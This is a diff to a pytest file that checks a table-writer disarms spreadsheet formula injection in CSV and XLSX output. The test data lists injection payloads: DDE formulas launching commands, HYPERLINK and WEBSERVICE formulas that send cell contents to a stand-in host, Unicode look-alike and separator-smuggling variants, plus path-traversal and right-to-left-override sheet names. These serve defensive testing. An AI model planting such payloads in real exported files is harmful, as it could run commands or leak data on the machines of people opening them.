@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import tempfile
 from collections.abc import Iterator
 from pathlib import Path
@@ -42,8 +43,9 @@ def test_a_written_text_file_reads_back_the_same(rows: list[tuple[str, str]]) ->
     with tempfile.TemporaryDirectory() as folder:
         path = Path(folder) / "out.csv"
         write_table(path, HEADER, [("end", first, second) for first, second in rows])
-        read = [tuple(cell.removeprefix("'") for cell in row) for row in _read(path, 1)]
-        assert read == [("end", first.removeprefix("'"), second.removeprefix("'")) for first, second in rows]
+        # Apostrophes disarm formulas, at the start and behind what other spreadsheets cut cells at.
+        read = [tuple(cell.replace("'", "") for cell in row) for row in _read(path, 1)]
+        assert read == [("end", first.replace("'", ""), second.replace("'", "")) for first, second in rows]
 
 
 def test_no_cell_of_a_workbook_is_a_formula_or_a_number(tmp_path: Path) -> None:
@@ -82,6 +84,54 @@ def test_formulas_in_text_files_are_disarmed_and_phones_are_not(tmp_path: Path) 
     write_table(path, HEADER, [cells])
     assert path.read_bytes().startswith(b"\xef\xbb\xbf")
     assert _read(path) == [("'=1+1", "+39 347 123-4567", "'-1+cmd")]
+
+
+FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://192.0.2.1/?"&A1,"here")',
+    '=WEBSERVICE("http://192.0.2.1/"&A1)',
+    '=DDE("cmd";"/C calc";"x")',
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+    "\uff0bcmd|' /C calc'!A0",
+    "\uff20SUM(1)",
+    "anna;=cmd|' /C calc'!A0",
+    "anna\t=cmd|' /C calc'!A0",
+    "anna; +cmd|' /C calc'!A0",
+    "anna;-2+cmd|' /C calc'!A0",
+)
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_formula_gets_through_whatever_the_separator(formula: str, separator: str, tmp_path: Path) -> None:
+    path = tmp_path / "out.csv"
+    write_table(path, [formula, "b", "c"], [(formula, "b", "c")])
+    with path.open(encoding="utf-8-sig", newline="") as stream:
+        cells = [cell for row in csv.reader(stream, delimiter=separator) for cell in row]
+    assert [cell for cell in cells if cell.strip(' "').startswith(("=", "+", "-", "@", *"＝＋－＠"))] == []
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_formula_gets_through_in_a_workbook(formula: str, tmp_path: Path) -> None:
+    path = tmp_path / "out.xlsx"
+    write_table(path, [formula, "b", "c"], [(formula, "b", "c")], sheet=formula)
+    sheet = load_workbook(path).active
+    assert sheet is not None
+    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}
+
+
+@pytest.mark.parametrize("name", ["../../escaped", "/escaped", "C:\\escaped", "a" * 300, "\u202exslx.exe"])
+def test_the_name_of_a_sheet_leads_nowhere(name: str, tmp_path: Path) -> None:
+    (tmp_path / "in").mkdir()
+    write_table(tmp_path / "in" / "out.xlsx", HEADER, [("a", "b", "c")], sheet=name)
+    assert [path.name for path in tmp_path.rglob("*")] == ["in", "out.xlsx"]
 
 
 def test_a_failure_on_the_way_leaves_the_old_file_and_no_other(tmp_path: Path) -> None:
